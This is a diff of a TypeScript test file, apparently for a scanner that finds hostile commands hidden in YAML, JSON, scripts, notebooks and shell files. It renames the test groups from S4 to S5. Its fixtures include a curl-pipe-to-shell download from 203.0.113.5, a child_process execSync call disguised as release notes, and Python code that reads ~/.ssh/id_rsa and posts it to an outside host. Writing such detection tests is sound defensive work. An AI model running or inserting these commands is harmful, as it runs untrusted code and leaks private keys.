@@ -12,7 +12,7 @@ const found = async (files: Record<string, string>): Promise<void> => {
   expect(held.length + problems.length, "it is found or told").toBeGreaterThan(0);
 };
 
-describe("S4 commands in YAML are read as YAML", () => {
+describe("S5 commands in YAML are read as YAML", () => {
   test.each([
     ["a plain text over several lines", "run: curl -s\n  http://203.0.113.5/a\n  | sh\n"],
     ["a quoted text over several lines", 'run: "curl -s\n  http://203.0.113.5/a |\n  sh"\n'],
@@ -52,7 +52,7 @@ describe("S4 commands in YAML are read as YAML", () => {
   });
 });
 
-describe("S4 commands in JSON", () => {
+describe("S5 commands in JSON", () => {
   test.each([
     ["a long text", "a.json", JSON.stringify({ command: LONG + EVIL })],
     ["very deep", "a.json", DEEP(20, JSON.stringify({ command: EVIL }))],
@@ -77,7 +77,7 @@ describe("S4 commands in JSON", () => {
   });
 });
 
-describe("S4 a file that a command hands to an interpreter is read in that language", () => {
+describe("S5 a file that a command hands to an interpreter is read in that language", () => {
   // Nothing in these texts says what they are.
   const SHELL = `Release notes of the week\nand more of them\n${EVIL}\n`;
   const SCRIPT = `/* Release notes */ x = 1\n;require("child_process").execSync("${EVIL}")\nNOTES: 1\n`;
@@ -119,7 +119,7 @@ describe("S4 a file that a command hands to an interpreter is read in that langu
   });
 });
 
-describe("S4 a notebook's cells run as Jupyter runs them", () => {
+describe("S5 a notebook's cells run as Jupyter runs them", () => {
   const notebook = (...sources: unknown[]): string =>
     JSON.stringify({ cells: sources.map((source) => ({ cell_type: "code", source })) });
   const kernel = (name: string, source: string): string =>
@@ -148,7 +148,7 @@ describe("S4 a notebook's cells run as Jupyter runs them", () => {
   });
 });
 
-describe("S4 a shell script does what the shell makes of it", () => {
+describe("S5 a shell script does what the shell makes of it", () => {
   const many = (count: number, word: string): string => `${word} `.repeat(count);
   test.each([
     ["many words that are printed", `eval "$(printf '%s;' ${many(500, "true")} '${EVIL}')"`],
@@ -182,7 +182,7 @@ describe("S4 a shell script does what the shell makes of it", () => {
   });
 });
 
-describe("S4 what a program holds is not lost by holding much", () => {
+describe("S5 what a program holds is not lost by holding much", () => {
   const SECRET = 'open(os.path.expanduser("~/.ssh/id_rsa")).read()';
   const send = (value: string): string => `requests.post("https://203.0.113.5/c", json=${value})`;
   const bases = Array.from({ length: 12 }, (_, at) => `class A${at}:\n    x${at} = ${at}\n`).join("");
